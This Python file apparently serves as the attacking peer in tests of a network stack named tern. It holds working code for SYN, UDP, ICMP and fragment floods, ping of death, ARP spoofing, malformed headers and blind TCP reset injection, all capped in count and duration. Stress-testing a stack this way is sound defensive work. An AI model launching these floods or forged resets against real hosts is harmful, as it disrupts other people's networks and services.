#!/usr/bin/python3
# tests/interop/attack.py — the hostile peer of the test_attack_*.sh tests:
# forges Ethernet frames with scapy and sends them, raw, on one interface
# (an AF_PACKET socket; scapy builds the frames, the socket sends them, as
# fast as the socket takes them or at --rate). Every run is bounded twice:
# by the number of frames (--count, or what the kind builds) and by time
# (--seconds); it stops at whichever comes first, and prints one line:
#   attack KIND: sent N frames in T s (R/s), E refused by the socket
#
#   /usr/bin/python3 attack.py KIND --iface IF --mac OUR_MAC --tern-mac MAC
#       --tern-ip IP [--atk-ip IP] [--legit-ip IP] [--count N] [--rate PPS]
#       [--seconds S] [--spoof-base IP] [--spoof-n N] [--ident N] ...
#
# TCP kinds (tcp-ofo, tcp-forge, tcp-blind, syn-flood) build their frames
# by hand and, for tcp-ofo, read tern's SYN-ACKs from the same socket.
#
# Needs scapy: run it with /usr/bin/python3 (Debian's python3-scapy).
import argparse
import errno
import random
import socket
import struct
import sys
import time

from scapy.all import ARP, ICMP, IP, UDP, Ether, Raw  # noqa: E402
from scapy.all import raw as scapy_raw  # noqa: E402

ETH_HLEN = 14


def ip2int(a):
    return struct.unpack("!I", socket.inet_aton(a))[0]


def int2ip(n):
    return socket.inet_ntoa(struct.pack("!I", n & 0xFFFFFFFF))


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def fix_ip_csum(frame):
    """Recompute the IPv4 header checksum of an Ethernet frame (bytearray)."""
    ihl = (frame[ETH_HLEN] & 0x0F) * 4
    frame[ETH_HLEN + 10:ETH_HLEN + 12] = b"\0\0"
    frame[ETH_HLEN + 10:ETH_HLEN + 12] = struct.pack("!H", csum(bytes(frame[ETH_HLEN:ETH_HLEN + ihl])))


def patch_ip(frame, src=None, ident=None):
    """A copy of frame with another IPv4 source and/or identification."""
    f = bytearray(frame)
    if src is not None:
        f[ETH_HLEN + 12:ETH_HLEN + 16] = socket.inet_aton(src)
    if ident is not None:
        f[ETH_HLEN + 4:ETH_HLEN + 6] = struct.pack("!H", ident & 0xFFFF)
    fix_ip_csum(f)
    return bytes(f)


def with_options(frame, opts):
    """frame (Ethernet + a 20-byte IPv4 header) with opts (raw bytes, padded
    to 4n with zeros, so End of Options) inserted as the IP options."""
    opts = opts + b"\0" * (-len(opts) % 4)
    f = bytearray(frame[:ETH_HLEN + 20] + opts + frame[ETH_HLEN + 20:])
    f[ETH_HLEN] = 0x40 | ((20 + len(opts)) // 4)
    tot = struct.unpack("!H", bytes(f[ETH_HLEN + 2:ETH_HLEN + 4]))[0] + len(opts)
    f[ETH_HLEN + 2:ETH_HLEN + 4] = struct.pack("!H", tot)
    fix_ip_csum(f)
    return bytes(f)


def rand_mac(rng):
    b = [rng.randrange(256) for _ in range(6)]
    b[0] = (b[0] & 0xFC) | 0x02  # locally administered unicast
    return ":".join("%02x" % x for x in b)


def spoofed(a, i):
    """The i-th of --spoof-n addresses from --spoof-base."""
    return int2ip(ip2int(a.spoof_base) + (i % a.spoof_n))


class Forge:
    def __init__(self, a):
        self.a = a
        self.rng = random.Random(a.seed)

    def eth(self, src=None, dst=None):
        return Ether(src=src or self.a.mac, dst=dst or self.a.tern_mac)

    def echo(self, seq=1, src=None, dst=None, ident=None, payload=b"attack-probe", **ipkw):
        a = self.a
        return (IP(src=src or a.atk_ip, dst=dst or a.tern_ip, **ipkw) /
                ICMP(type=8, id=a.ident if ident is None else ident, seq=seq) / Raw(payload))

    # ---- fragments ----------------------------------------------------------

    def frag_flood(self):
        """--count first fragments (MF=1, offset 0, 1000 bytes of UDP) with
        distinct IP IDs, from --spoof-n sources from --spoof-base (or all
        from --atk-ip with --spoof-n 0)."""
        a = self.a
        tmpl = scapy_raw(self.eth() / IP(src=a.atk_ip, dst=a.tern_ip, flags="MF", frag=0, id=1,
                                         proto=17) / Raw(b"\0" * 1000))
        out = []
        for i in range(a.count):
            src = spoofed(a, i) if a.spoof_n else None
            out.append(patch_ip(tmpl, src=src, ident=(a.id_base + i)))
        return out

    def frag_overlap(self):
        """Echo requests in three fragments, the second overlapping the first
        by 8 bytes with other data: never a datagram."""
        a = self.a
        out = []
        for k in range(a.count):
            dgram = self.echo(seq=k + 1, payload=bytes(range(48)))
            dgram.id = a.id_base + k
            body = scapy_raw(dgram[ICMP])  # 8 + 48 = 56 bytes
            evil = bytes(b ^ 0xFF for b in body)
            # first, last, then the overlap: when it is refused, nothing of
            # the datagram is left waiting for a fragment
            parts = [(0, body[0:24], True), (40, body[40:56], False), (16, evil[16:40], True)]
            for off, data, mf in parts:
                ip = IP(src=a.atk_ip, dst=a.tern_ip, id=a.id_base + k, proto=1, frag=off // 8,
                        flags="MF" if mf else 0)
                out.append(scapy_raw(self.eth() / ip / Raw(data)))
        return out

    def frag_too_big(self):
        """Fragments that end past 65535: a last one at offset 65528 (8191 x 8)
        with 64 bytes, and a middle one (MF) at 65000 with 1000 bytes; two
        per --count, each of its own datagram."""
        a = self.a
        out = []
        for k in range(a.count):
            for n, (off8, size, mf) in enumerate(((8191, 64, 0), (8125, 1000, "MF"))):
                ip = IP(src=a.atk_ip, dst=a.tern_ip, id=a.id_base + 2 * k + n, proto=1, frag=off8,
                        flags=mf)
                out.append(scapy_raw(self.eth() / ip / Raw(b"\1" * size)))
        return out

    def ping_of_death(self):
        """The classic: an echo request of 65,520 bytes of ICMP data, in
        1480-byte fragments; the last one ends past 65535."""
        a = self.a
        out = []
        for k in range(a.count):
            body = scapy_raw(ICMP(type=8, id=a.ident, seq=k + 1) / Raw(b"D" * 65520))
            off = 0
            while off < len(body):
                chunk = body[off:off + 1480]
                mf = off + len(chunk) < len(body)
                ip = IP(src=a.atk_ip, dst=a.tern_ip, id=a.id_base + k, proto=1, frag=off // 8,
                        flags="MF" if mf else 0)
                out.append(scapy_raw(self.eth() / ip / Raw(chunk)))
                off += len(chunk)
        return out

    # ---- ARP ----------------------------------------------------------------

    def arp(self):
        """--count copies of one ARP packet: --op, --sha/--spa, --tha/--tpa,
        in an Ethernet frame to --eth-dst (default: tern's MAC)."""
        a = self.a
        p = Ether(src=a.mac, dst=a.eth_dst or a.tern_mac) / ARP(
            op=a.op, hwsrc=a.sha or a.mac, psrc=a.spa, hwdst=a.tha, pdst=a.tpa)
        return [scapy_raw(p)] * a.count

    def arp_flood(self):
        """--count ARP requests for tern's address from --spoof-n sender
        addresses from --spoof-base, each from its own random MAC."""
        a = self.a
        out = []
        for i in range(a.count):
            m = rand_mac(self.rng)
            out.append(scapy_raw(Ether(src=m, dst="ff:ff:ff:ff:ff:ff") /
                                 ARP(op=1, hwsrc=m, psrc=spoofed(a, i), hwdst="00:00:00:00:00:00",
                                     pdst=a.tern_ip)))
        return out

    # ---- header and link-layer forgeries (each an echo request or UDP) ------

    def hdr(self):
        """--count copies of each forgery in the comma-separated --what; the
        i-th (from 0) uses ICMP identifier --ident + i and, for UDP, source
        port --sport + i, so each one's answer, if any, is told apart."""
        a = self.a
        out = []
        for i, w in enumerate(a.what.split(",")):
            f = self.hdr_frame(w, a.ident + i, a.sport + i)
            out += [f] * a.count
        return out

    def hdr_frame(self, w, ident, sport):
        """One forgery: an echo request (identifier ident), or a UDP datagram
        from port sport to --dport, broken as w says."""
        a = self.a
        e = self.eth()
        frame = None
        if w == "lsrr":
            frame = with_options(scapy_raw(e / self.echo(ident=ident)),
                                 b"\x83\x07\x04" + socket.inet_aton(a.tern_ip))
        elif w == "ssrr":
            frame = with_options(scapy_raw(e / self.echo(ident=ident)),
                                 b"\x89\x07\x04" + socket.inet_aton(a.tern_ip))
        elif w == "eth-own-src":
            frame = self.eth(src=a.tern_mac) / self.echo(ident=ident, )
        elif w == "eth-zero-src":
            frame = self.eth(src="00:00:00:00:00:00") / self.echo(ident=ident, )
        elif w == "eth-mcast-src":
            frame = self.eth(src="01:00:5e:00:00:01") / self.echo(ident=ident, )
        elif w == "eth-bcast-src":
            frame = self.eth(src="ff:ff:ff:ff:ff:ff") / self.echo(ident=ident, )
        elif w == "land":
            frame = e / self.echo(ident=ident, src=a.tern_ip)
        elif w.startswith("martian-"):
            src = {"zero": "0.0.0.0", "bcast": "255.255.255.255", "mcast": "224.0.0.5",
                   "classe": "240.0.0.1", "loopback": "127.0.0.1", "zeronet": "0.1.2.3"}[w[8:]]
            frame = e / self.echo(ident=ident, src=src)
        elif w == "ip-version":
            frame = e / self.echo(ident=ident, version=6)
        elif w == "ip-ihl-short":
            frame = e / self.echo(ident=ident, ihl=4)
        elif w == "ip-ihl-long":
            frame = e / self.echo(ident=ident, ihl=15)  # 60-byte header in a 40-byte datagram
            b = bytearray(scapy_raw(frame))
            b[ETH_HLEN + 2:ETH_HLEN + 4] = struct.pack("!H", 40)
            fix_ip_csum(b)
            frame = bytes(b[:ETH_HLEN + 40])
        elif w == "ip-len-short":
            frame = e / self.echo(ident=ident, len=16)  # below the 20-byte header
        elif w == "ip-len-long":
            frame = e / self.echo(ident=ident, len=1400)  # beyond the frame
        elif w == "ip-checksum":
            frame = e / self.echo(ident=ident, chksum=0x1234)
        elif w == "ip-options-len":
            # a Record Route option whose length runs past the header
            frame = with_options(scapy_raw(e / self.echo(ident=ident)), b"\x07\x27\x04\x00")
        elif w == "ip-options-len0":
            frame = with_options(scapy_raw(e / self.echo(ident=ident)), b"\x44\x00\x00\x00")  # length 0
        elif w == "ip-ttl0":
            frame = e / self.echo(ident=ident, ttl=0)
        elif w == "icmp-checksum":
            p = self.echo(ident=ident, )
            p[ICMP].chksum = 0x4321
            frame = e / p
        elif w == "icmp-short":
            frame = e / IP(src=a.atk_ip, dst=a.tern_ip, proto=1) / Raw(b"\x08\x00\xf7")
        elif w.startswith("udp-"):
            u = UDP(sport=sport, dport=a.dport)
            ip = IP(src=a.atk_ip, dst=a.tern_ip)
            pay = Raw(b"forged-udp-%d" % ident)
            if w == "udp-checksum":
                u.chksum = 0x1111
            elif w == "udp-len-long":
                u.len = 200
            elif w == "udp-len-short":
                u.len = 4
            elif w == "udp-ok":
                pass
            else:
                raise SystemExit("unknown forgery %s" % w)
            frame = e / ip / u / pay
        elif w == "icmp-timestamp":
            frame = e / IP(src=a.atk_ip, dst=a.tern_ip) / ICMP(type=13, id=ident, seq=1) / \
                Raw(b"\0" * 12)
        elif w.startswith("icmp-type-"):
            t = int(w[10:])
            quote = scapy_raw(IP(src=a.tern_ip, dst=a.atk_ip) / UDP(sport=sport, dport=a.dport))
            body = quote if t in (4,) else b"\0" * 8
            frame = e / IP(src=a.atk_ip, dst=a.tern_ip) / ICMP(type=t, code=0) / Raw(body)
        elif w in ("icmp-err-foreign-src", "icmp-err-no-port"):
            # a port unreachable quoting a UDP datagram tern did not send:
            # from another source, or from tern to a port it has no socket on
            qsrc = a.legit_ip if w == "icmp-err-foreign-src" else a.tern_ip
            quote = scapy_raw(IP(src=qsrc, dst=a.atk_ip) / UDP(sport=sport, dport=a.dport) /
                              Raw(b"x" * 8))
            frame = e / IP(src=a.atk_ip, dst=a.tern_ip) / ICMP(type=3, code=3) / Raw(quote)
        else:
            raise SystemExit("unknown forgery %s" % w)
        return frame if isinstance(frame, bytes) else scapy_raw(frame)

    # ---- floods -------------------------------------------------------------

    def udp_flood(self):
        """--count UDP datagrams of --size bytes to --dport (0: a random
        closed port from 20000..60000) from --spoof-n sources from
        --spoof-base (--spoof-n 0: from --atk-ip). UDP checksum 0 (none),
        so one template serves every source."""
        a = self.a
        tmpl = self.eth() / IP(src=a.atk_ip, dst=a.tern_ip) / UDP(sport=a.sport, dport=a.dport or 9) / \
            Raw(b"f" * a.size)
        tmpl[UDP].chksum = 0
        tmpl = bytearray(scapy_raw(tmpl))
        out = []
        for i in range(a.count):
            f = bytearray(tmpl)
            if not a.dport:
                f[ETH_HLEN + 22:ETH_HLEN + 24] = struct.pack("!H", self.rng.randrange(20000, 60000))
            f[ETH_HLEN + 20:ETH_HLEN + 22] = struct.pack("!H", 1024 + i % 60000)
            out.append(patch_ip(bytes(f), src=spoofed(a, i) if a.spoof_n else None, ident=i))
        return out

    def echo_flood(self):
        """--count echo requests from --spoof-n sources from --spoof-base."""
        a = self.a
        tmpl = scapy_raw(self.eth() / self.echo(payload=b"e" * a.size))
        return [patch_ip(tmpl, src=spoofed(a, i) if a.spoof_n else None, ident=i)
                for i in range(a.count)]


# ---- TCP: handshakes of the attacker's own, then data above a hole ------------
#
# The attacker speaks TCP from --spoof-base (an address its own kernel does
# not have, so the kernel never resets tern's SYN-ACKs; the test gives tern
# a static ARP entry for it) on ports --sport .. --sport + --conns - 1, with
# frames of its own on the AF_PACKET socket, and keeps what it learnt
# (ports, sequence numbers) in --state, so a later run can forge on the
# same connections.

TH_FIN, TH_SYN, TH_RST, TH_PSH, TH_ACK = 0x01, 0x02, 0x04, 0x08, 0x10


def tcp_frame(a, src, dst, sport, dport, seq, ack, flags, payload=b"", win=65535, opts=b""):
    """Ethernet + IPv4 + TCP, checksums right, from the attacker's MAC."""
    opts = opts + b"\0" * (-len(opts) % 4)
    thl = 20 + len(opts)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF,
                      (thl // 4) << 4, flags, win, 0, 0) + opts + payload
    ph = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    c = csum(ph + tcp)
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    eth = bytes.fromhex(a.tern_mac.replace(":", "")) + bytes.fromhex(a.mac.replace(":", "")) + b"\x08\x00"
    return eth + ip + tcp


def parse_tcp(frame):
    """(src, dst, sport, dport, seq, ack, flags, win) of an IPv4/TCP frame, else None."""
    if len(frame) < ETH_HLEN + 40 or frame[12:14] != b"\x08\x00" or frame[ETH_HLEN + 9] != 6:
        return None
    ihl = (frame[ETH_HLEN] & 0x0F) * 4
    t = ETH_HLEN + ihl
    if len(frame) < t + 20:
        return None
    sport, dport, seq, ack, _, flags, win = struct.unpack("!HHIIBBH", frame[t:t + 16])
    return (socket.inet_ntoa(frame[ETH_HLEN + 12:ETH_HLEN + 16]),
            socket.inet_ntoa(frame[ETH_HLEN + 16:ETH_HLEN + 20]), sport, dport, seq, ack, flags, win)


def raw_socket(a):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    s.bind((a.iface, 0))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    return s


def tcp_handshakes(a, s, deadline):
    """SYNs from --conns ports; ACK each SYN-ACK. Returns {sport: [our_nxt, their_nxt]}."""
    src = a.spoof_base
    isn = {a.sport + i: (0x10000000 + 0x01000000 * i) & 0xFFFFFFFF for i in range(a.conns)}
    mss_ws = b"\x02\x04\x05\xb4\x01\x03\x03\x07"  # MSS 1460, NOP, window scale 7
    conns = {}
    sent_at = {}
    s.settimeout(0.05)
    while len(conns) < a.conns and time.monotonic() < deadline:
        now = time.monotonic()
        for p, i0 in isn.items():  # (re)send SYNs still unanswered, once a second
            if p not in conns and now - sent_at.get(p, -9) >= 1.0:
                s.send(tcp_frame(a, src, a.tern_ip, p, a.dport, i0, 0, TH_SYN, opts=mss_ws))
                sent_at[p] = now
        end = time.monotonic() + 0.2
        while time.monotonic() < end:
            try:
                f = s.recv(65535)
            except socket.timeout:
                break
            t = parse_tcp(f)
            if not t or t[0] != a.tern_ip or t[1] != src or t[2] != a.dport or t[3] not in isn:
                continue
            _, _, _, p, seq, ack, flags, _ = t
            if flags & (TH_SYN | TH_ACK) == (TH_SYN | TH_ACK) and ack == (isn[p] + 1) & 0xFFFFFFFF:
                conns[p] = [(isn[p] + 1) & 0xFFFFFFFF, (seq + 1) & 0xFFFFFFFF]
                s.send(tcp_frame(a, src, a.tern_ip, p, a.dport, conns[p][0], conns[p][1], TH_ACK,
                                 win=4096))
    return conns


def tcp_ofo(a):
    """--conns connections, then on each --segs one-byte segments above a
    one-byte hole at its next sequence number: each held costs tern a whole
    buffer, and SO_RCVBUF alone bounds only one connection's share."""
    s = raw_socket(a)
    t0 = time.monotonic()
    deadline = t0 + a.seconds
    conns = tcp_handshakes(a, s, deadline)
    frames = []
    for k in range(a.segs):
        for p, (nxt, rnxt) in conns.items():
            frames.append(tcp_frame(a, a.spoof_base, a.tern_ip, p, a.dport, nxt + 1 + 2 * k, rnxt,
                                    TH_ACK, payload=b"X", win=4096))
    sent, _ = send_frames(a, s, frames, t0, deadline)
    with open(a.state, "w") as f:
        for p, (nxt, rnxt) in sorted(conns.items()):
            f.write("%d %d %d\n" % (p, nxt, rnxt))
    dt = time.monotonic() - t0
    print("attack tcp-ofo: %d of %d connections made, sent %d out-of-order segments in %.2f s" %
          (len(conns), a.conns, sent, dt), flush=True)


def tcp_forge(a):
    """On the connections of --state: --count rounds of an RST inside the
    window but not at RCV.NXT, a SYN at RCV.NXT (RFC 5961 §3.2, §4.2:
    challenge ACKs, rate-limited) and an RST a half sequence space away
    (outside any window: dropped). With --what reset, one RST at RCV.NXT
    each instead (accepted: the attacker leaves)."""
    s = raw_socket(a)
    conns = [tuple(int(x) for x in line.split()) for line in open(a.state)]
    frames = []
    if a.what == "reset":
        for p, nxt, rnxt in conns:
            frames.append(tcp_frame(a, a.spoof_base, a.tern_ip, p, a.dport, nxt, 0, TH_RST, win=0))
    else:
        for _ in range(a.count):
            for p, nxt, rnxt in conns:
                frames.append(tcp_frame(a, a.spoof_base, a.tern_ip, p, a.dport, nxt + 1000, 0, TH_RST,
                                        win=0))
                frames.append(tcp_frame(a, a.spoof_base, a.tern_ip, p, a.dport, nxt, 0, TH_SYN))
                frames.append(tcp_frame(a, a.spoof_base, a.tern_ip, p, a.dport, nxt + 0x40000000, 0,
                                        TH_RST, win=0))
    t0 = time.monotonic()
    sent, _ = send_frames(a, s, frames, t0, t0 + a.seconds)
    print("attack tcp-forge %s: sent %d frames on %d connections in %.2f s" %
          (a.what or "rst,syn", sent, len(conns), time.monotonic() - t0), flush=True)


def tcp_blind(a):
    """Blind forgeries against a connection the attacker is not part of
    (--legit-ip:--sport to tern's --dport): --count RSTs whose sequence
    numbers step across the whole space, and --count SYNs at random ones."""
    s = raw_socket(a)
    frames = []
    step = (1 << 32) // max(1, a.count)
    for i in range(a.count):
        frames.append(tcp_frame(a, a.legit_ip, a.tern_ip, a.sport, a.dport, i * step, 0, TH_RST, win=0))
        frames.append(tcp_frame(a, a.legit_ip, a.tern_ip, a.sport, a.dport, self_rand(a), 0, TH_SYN))
    t0 = time.monotonic()
    sent, _ = send_frames(a, s, frames, t0, t0 + a.seconds)
    print("attack tcp-blind: sent %d frames in %.2f s" % (sent, time.monotonic() - t0), flush=True)


_RNG = None


def self_rand(a):
    global _RNG
    if _RNG is None:
        _RNG = random.Random(a.seed)
    return _RNG.randrange(1 << 32)


def syn_flood(a):
    """--count SYNs to --dport from random sources among the --spoof-n
    addresses from --spoof-base (on tern's link, tern's SYN-ACKs wait for
    ARP that never answers: they fill its neighbour queues as well as its
    half-open budget)."""
    rng = random.Random(a.seed)
    base = ip2int(a.spoof_base)
    s = raw_socket(a)
    frames = []
    mss = b"\x02\x04\x05\xb4"
    for i in range(a.count):
        src = int2ip(base + rng.randrange(max(1, a.spoof_n)))
        frames.append(tcp_frame(a, src, a.tern_ip, rng.randrange(1024, 65536), a.dport,
                                rng.randrange(1 << 32), 0, TH_SYN, opts=mss))
    t0 = time.monotonic()
    sent, _ = send_frames(a, s, frames, t0, t0 + a.seconds)
    dt = time.monotonic() - t0
    print("attack syn-flood: sent %d frames in %.2f s (%.0f/s)" % (sent, dt, sent / dt if dt else 0),
          flush=True)


def send_frames(a, s, frames, t0, deadline):
    """Send frames at --rate (0: as fast as the socket takes them), --interval
    apart, until the deadline; returns (sent, refused by the socket)."""
    sent = refused = 0
    s.setblocking(True)
    start = time.monotonic()
    for f in frames:
        now = time.monotonic()
        if now >= deadline:
            break
        if a.rate > 0 and sent % 16 == 0:
            due = start + sent / a.rate
            if due > now:
                time.sleep(min(due - now, deadline - now))
        try:
            s.send(f)
            sent += 1
        except OSError as e:
            if e.errno not in (errno.ENOBUFS, errno.EAGAIN):
                raise
            refused += 1
            time.sleep(0.0005)
        if a.interval:
            time.sleep(a.interval)
    return sent, refused


def send_all(a, frames):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.iface, 0))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    t0 = time.monotonic()
    sent, refused = send_frames(a, s, frames, t0, t0 + a.seconds)
    dt = time.monotonic() - t0
    print("attack %s: sent %d frames in %.2f s (%.0f/s), %d refused by the socket" %
          (a.kind, sent, dt, sent / dt if dt > 0 else 0, refused), flush=True)


def main():
    p = argparse.ArgumentParser()
    p.add_argument("kind")
    p.add_argument("--iface", required=True)
    p.add_argument("--mac", required=True, help="the attacker's Ethernet address")
    p.add_argument("--tern-mac", required=True)
    p.add_argument("--tern-ip", required=True)
    p.add_argument("--atk-ip", default="0.0.0.0")
    p.add_argument("--legit-ip", default="0.0.0.0")
    p.add_argument("--count", type=lambda v: int(v, 0), default=1)
    p.add_argument("--rate", type=float, default=0, help="frames per second (0: as fast as possible)")
    p.add_argument("--interval", type=float, default=0, help="seconds between frames")
    p.add_argument("--seconds", type=float, default=10, help="stop after this long, whatever is left")
    p.add_argument("--spoof-base", default="0.0.0.0")
    p.add_argument("--spoof-n", type=lambda v: int(v, 0), default=0)
    p.add_argument("--id-base", type=lambda v: int(v, 0), default=1)
    p.add_argument("--ident", type=lambda v: int(v, 0), default=0x4141, help="ICMP echo identifier")
    p.add_argument("--sport", type=lambda v: int(v, 0), default=40000)
    p.add_argument("--dport", type=lambda v: int(v, 0), default=7)
    p.add_argument("--size", type=lambda v: int(v, 0), default=64)
    p.add_argument("--seed", type=lambda v: int(v, 0), default=1)
    p.add_argument("--what", default="")
    p.add_argument("--op", type=lambda v: int(v, 0), default=2)
    p.add_argument("--sha", default="")
    p.add_argument("--spa", default="0.0.0.0")
    p.add_argument("--tha", default="00:00:00:00:00:00")
    p.add_argument("--tpa", default="0.0.0.0")
    p.add_argument("--eth-dst", default="")
    p.add_argument("--conns", type=int, default=128, help="tcp-ofo: connections to make")
    p.add_argument("--segs", type=int, default=100, help="tcp-ofo: out-of-order segments on each")
    p.add_argument("--state", default="", help="tcp-ofo writes, tcp-forge reads, the connections")
    a = p.parse_args()
    if a.count < 0 or a.count > 200000 or a.seconds <= 0 or a.seconds > 60:
        raise SystemExit("attack.py: --count must be 0..200000 and --seconds 0..60")
    builders = {
        "frag-flood": Forge.frag_flood, "frag-overlap": Forge.frag_overlap,
        "frag-too-big": Forge.frag_too_big, "ping-of-death": Forge.ping_of_death,
        "arp": Forge.arp, "arp-flood": Forge.arp_flood, "hdr": Forge.hdr,
        "udp-flood": Forge.udp_flood, "echo-flood": Forge.echo_flood,
    }
    runners = {"tcp-ofo": tcp_ofo, "tcp-forge": tcp_forge, "tcp-blind": tcp_blind,
               "syn-flood": syn_flood}
    if a.conns < 1 or a.conns > 1024 or a.segs < 0 or a.segs > 1000:
        raise SystemExit("attack.py: --conns must be 1..1024 and --segs 0..1000")
    if a.conns * a.segs > 200000:
        raise SystemExit("attack.py: --conns x --segs must be at most 200000 frames")
    if a.kind in runners:
        if a.kind in ("tcp-ofo", "tcp-forge") and not a.state:
            raise SystemExit("attack.py: %s needs --state FILE" % a.kind)
        return runners[a.kind](a)
    if a.kind not in builders:
        raise SystemExit("attack.py: unknown kind %s (one of %s)" %
                         (a.kind, " ".join(list(builders) + list(runners))))
    frames = builders[a.kind](Forge(a))
    send_all(a, frames)


if __name__ == "__main__":
    sys.exit(main())
